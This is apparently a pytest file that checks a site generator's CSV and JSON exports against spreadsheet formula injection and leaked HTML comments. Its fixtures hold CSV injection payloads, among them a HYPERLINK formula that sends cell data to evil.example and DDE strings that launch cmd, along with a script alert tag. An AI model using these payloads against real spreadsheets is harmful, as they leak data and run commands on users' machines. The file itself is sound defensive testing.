"""Exports are safe to open: no CSV cell is read as a formula by a spreadsheet
(security rows 8 and 9), and the JSON and CSV exports carry a body as its page
shows it — no HTML comments, nothing the sanitiser removed."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from conftest import TODAY, run_portal, write_portal

from generator.site.export import csv_cell, to_csv

# Cells a spreadsheet runs or reads as formulas (OWASP CSV injection).
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
# Front-matter values are trimmed and every CR becomes a newline when a file is
# read, so a tab reaches a cell only at the start of a body, and a CR never does
# (the to_csv test below covers it).
TAB = "\t=1+1 in an indented code block.\n"

INSIGHT = """\
---
title: '=HYPERLINK("http://evil.example/?"&A1,"click")'
summary: "+cmd|' /C calc'!A0"
kind: pain
personas: [shopper]
journey: order
stages: [checkout]
severity: high
confidence: medium
tags: ["@SUM(1+1)*cmd|' /C calc'!A0", fees]
evidence:
  - source: support-ticket
    ref: ZD-1001
    date: 2026-09-14
    quote: "=1+1"
created: 2026-09-20
authors: ["=dana"]
decision:
  status: accepted
  owner: "-2+3+cmd|' /C calc'!A0"
  date: 2026-10-02
  rationale: "@team said so"
---
Visible opening words.

<!-- reviewer note: not for customers -->

Visible <!-- inline aside --> middle words.

<script>alert("body")</script>

Visible closing words.
"""

PERSONA = """\
---
name: "=Shopper"
summary: "@Buys groceries online every week."
goals: ["+get the weekly shop done fast"]
frustrations: [surprise fees]
owner: research-team
quote: "-Why is there a fee now?"
last_reviewed: 2026-10-01
---
- A profile that starts with a list.

<!-- persona reviewer note -->
"""

JOURNEY = """\
---
title: "=Order"
summary: From basket to doorstep.
personas: [shopper]
owner: cx-team
stages:
  - id: basket
    name: Basket
    owner: catalog-team
  - id: checkout
    name: Checkout
    owner: checkout-team
    metrics:
      - name: Checkout change
        value: -0.5
        unit: ratio
        as_of: 2026-10-01
---
\t=1+1 in an indented code block.

Journey text. <!-- journey reviewer note -->
"""

HIDDEN = ("reviewer note", "inline aside", "<!--", "-->", "<script", 'alert("body")')
SHOWN = ("Visible opening words.", "Visible  middle words.", "Visible closing words.")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = write_portal(tmp_path_factory.mktemp("exports") / "portal", {
        "insights/fees-surprise.md": INSIGHT, "personas/shopper.md": PERSONA,
        "journeys/order.md": JOURNEY})
    site_dir = root.parent / "site"
    result = run_portal("build", str(root), "--site-dir", str(site_dir),
                        "--today", TODAY.isoformat())
    assert result.returncode == 0, result.stdout + result.stderr
    return site_dir


def _csv(site: Path, kind: str) -> list[dict[str, str]]:
    with (site / f"export/{kind}.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def _json(site: Path, kind: str) -> list[dict[str, Any]]:
    return json.loads((site / f"export/{kind}.json").read_text(encoding="utf-8"))


# --- row 8: CSV injection -------------------------------------------------------------


def test_formula_cells_of_every_csv_start_with_a_quote_and_keep_their_value(
        site: Path) -> None:
    insight = _csv(site, "insights")[0]
    expected = {"title": HYPERLINK, "summary": DDE, "decision.owner": MINUS,
                "tags": f"{AT}; fees", "authors": "=dana",
                "decision.rationale": "@team said so"}
    for column, value in expected.items():
        assert insight[column] == "'" + value, column
    persona = _csv(site, "personas")[0]
    for column, value in {"name": "=Shopper", "summary": "@Buys groceries online every week.",
                          "goals": "+get the weekly shop done fast",
                          "quote": "-Why is there a fee now?"}.items():
        assert persona[column] == "'" + value, column
    persona_body = _json(site, "personas")[0]["body"]
    assert persona_body.startswith("- A profile that starts with a list.")
    assert persona["body"] == "'" + persona_body
    # a list of records is one JSON cell: it starts with '{', the formula stays inside
    assert insight["evidence"].startswith('{"source": ') and '"quote": "=1+1"' in \
        insight["evidence"]
    journey = _csv(site, "journeys")[0]
    assert journey["title"] == "'=Order"
    assert journey["body"].startswith("'" + TAB)
    # the JSON export is data, not a spreadsheet: values as written
    assert _json(site, "insights")[0]["title"] == HYPERLINK
    assert _json(site, "journeys")[0]["body"].startswith(TAB)


def test_no_cell_of_any_csv_starts_like_a_formula(site: Path) -> None:
    for kind in ("insights", "personas", "journeys"):
        text = (site / f"export/{kind}.csv").read_text(encoding="utf-8")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 2, kind
        for cell in rows[1]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (kind, cell)


def test_csv_cells_are_quoted_whole_with_embedded_quotes_doubled(site: Path) -> None:
    text = (site / "export/insights.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in text
    assert text.startswith('"id",')


def test_numbers_we_wrote_stay_numbers_and_text_is_always_neutralised() -> None:
    assert [csv_cell(value) for value in (-0.5, -3, 0.71, None, True)] == [
        "-0.5", "-3", "0.71", "", "True"]
    assert csv_cell(float("-inf")) == "'-inf"
    assert csv_cell("-0.5") == "'-0.5"  # text: it could as well be '-0.5+cmd|…'
    assert csv_cell("fees") == "fees"
    table = to_csv([{"value": -0.5, "note": "=1", "tab": "\t=1", "cr": "\r=1",
                     "list": ["-1", "fine"]}])
    rows = list(csv.DictReader(io.StringIO(table, newline="")))
    assert rows == [{"value": "-0.5", "note": "'=1", "tab": "'\t=1", "cr": "'\r=1",
                     "list": "'-1; fine"}]


# --- row 9: exports carry what the page shows -------------------------------------------


def test_json_and_csv_bodies_hold_no_comment_and_no_removed_html(site: Path) -> None:
    bodies = {"json": _json(site, "insights")[0]["body"],
              "csv": _csv(site, "insights")[0]["body"]}
    for where, body in bodies.items():
        for hidden in HIDDEN:
            assert hidden not in body, (where, hidden)
        for shown in SHOWN:
            assert shown in body, (where, shown)
    for kind, note in (("personas", "persona reviewer note"),
                       ("journeys", "journey reviewer note")):
        assert note not in json.dumps(_json(site, kind)), kind
        assert note not in (site / f"export/{kind}.csv").read_text(encoding="utf-8"), kind
    assert "Journey text." in _json(site, "journeys")[0]["body"]


def test_the_page_and_the_index_data_agree_with_the_exports(site: Path) -> None:
    page = (site / "insights/fees-surprise/index.html").read_text(encoding="utf-8")
    for shown in ("Visible opening words.", "Visible closing words."):
        assert shown in page
    for hidden in ("reviewer note", "inline aside", 'alert("body")'):
        assert hidden not in page
    index = (site / "assets/insight-index.json").read_text(encoding="utf-8")
    for hidden in ("reviewer note", "inline aside", 'alert("body")'):
        assert hidden not in index
